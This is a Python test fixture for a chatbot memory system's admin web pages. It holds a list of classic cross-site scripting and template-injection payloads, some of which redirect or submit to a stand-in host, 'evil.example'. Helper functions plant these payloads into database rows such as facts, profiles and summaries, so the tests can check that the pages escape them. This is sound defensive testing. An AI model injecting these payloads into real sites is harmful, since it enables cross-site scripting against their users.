"""What strangers write in the hope that a page takes it for its own: classic payloads, and where they get to."""

import json
import uuid
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from tests.web.admin.world import World

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script>alert(document.cookie)</script>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>click</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=https://evil.example><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div hx-get=https://evil.example hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1) data-hx-on=alert(1)>x</div>",
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${alert(1)}`${alert(1)}`",
    "<!--<script>alert(1)--></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
)  # fmt: skip
USER = PAYLOADS[1]
BOT = PAYLOADS[6]

# Where engines keep what users talk about; the rest of their rows are numbers and words of their own.
_TOPICS = ("recent_topics", "topic_transition_graph", "suggested_topics")
_NAMES = ("label", "keywords", "topic", "title", "name")
_TABLES = ("strategic_conversation_patterns", "strategic_engagement_opportunities", "strategic_memory_behavior",
           "strategic_memory_health", "strategic_personality_profiles")  # fmt: skip


def hostile_chat() -> str:
    """Return the payloads as messages of one user, a line each."""
    lines = [
        {"user_id": USER, "bot_name": BOT, "role": "user", "content": f"I like {payload} very much.", "author": payload,
         "timestamp": f"2026-04-01T10:{place:02d}:00Z", "channel_id": payload, "message_id": f"x{place}"}
        for place, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    return "".join(json.dumps(line) + "\n" for line in lines)


def plant(world: "World") -> None:
    """Put the payloads wherever a name or a text of somebody's is kept, of a user whose id is one, too."""
    for payload in PAYLOADS:
        [fact] = _copy(world, "facts", "statement <> ''", **_of_a_fact(payload))
        _copy(world, "evidence", "true", fact_id=fact["fact_id"], user_id=USER, quote=payload, author=payload,
              point_id=payload)  # fmt: skip
        _copy(world, "conversation_summaries", "true", user_id=USER, bot_name=BOT, title=payload, summary_text=payload)
    named = [{"name": payload, "value": payload, "score": 1} for payload in PAYLOADS]
    world.rows("delete from user_profiles where user_id = $1", USER)
    _copy(world, "user_profiles", "version > 0", user_id=USER, bot_name=BOT, summary=USER, interests=named,
          traits=named, work=named, entities={USER: named}, preferences={USER: {"value": USER}},
          platform_ids={USER: [BOT]}, language=USER, timezone=USER)  # fmt: skip
    for table in _TABLES:
        world.rows(f"delete from {table} where user_id = $1", USER)  # noqa: S608 - names of our own
        [row] = world.rows(f"select to_jsonb(t)::text as row from {table} t where user_id = 'mara' limit 1")  # noqa: S608
        topics = {name: _renamed(value) for name, value in json.loads(row["row"]).items() if name in _TOPICS}
        _copy(world, table, "user_id = 'mara'", user_id=USER, bot_name=BOT, **topics)
    held = {"outcome": "quarantined", "reason": "refusal", "withdrawn_at": None, "collection": world.collection}
    _copy(world, "ledger", "true", user_id=USER, bot_name=BOT, point_id=str(uuid.uuid4()), **held)
    _copy(world, "model_calls", "true", user_id=USER, model=USER, failure=BOT)


def _of_a_fact(payload: str) -> dict[str, str]:
    named = ("statement", "subject", "predicate", "qualifier", "object", "object_key", "scope", "state_reason")
    return {"user_id": USER, "bot_name": BOT, **dict.fromkeys(named, payload)}


def _copy(world: "World", table: str, where: str, **changes: Any) -> list[dict[str, Any]]:  # noqa: ANN401 - JSON
    """Copy a row of somebody's with these values, and with new ids."""
    fresh = {"facts": "fact_id", "conversation_summaries": "session_id", "model_calls": "call_id"}.get(table)
    new_id = f"|| jsonb_build_object('{fresh}', gen_random_uuid())" if fresh else ""
    return world.rows(
        f"insert into {table} select (jsonb_populate_record(t, $1::text::jsonb {new_id})).* "  # noqa: S608 - ours
        f"from {table} t where {where} and user_id = 'mara' limit 1 returning *",
        json.dumps(changes, default=str),
    )


def _renamed(value: Any) -> Any:  # noqa: ANN401 - JSON
    """Return the value with a payload for each name of a topic; words of the program's own stay."""
    names = iter(PAYLOADS * 10)

    def walk(one: Any, key: str = "") -> Any:  # noqa: ANN401 - JSON
        if isinstance(one, dict):
            return {name: walk(each, name) for name, each in one.items()}
        if isinstance(one, list):
            return [walk(each, key) for each in one]
        return next(names) if key in _NAMES and (one is None or isinstance(one, str)) else one

    return walk(value)
